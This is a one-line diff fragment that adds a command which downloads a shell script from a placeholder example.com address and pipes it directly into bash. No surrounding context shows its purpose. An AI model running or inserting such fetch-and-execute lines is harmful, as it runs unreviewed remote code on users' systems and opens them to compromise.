@@ -1,0 +1,1 @@
+wget -O- https://example.com/i.sh | bash
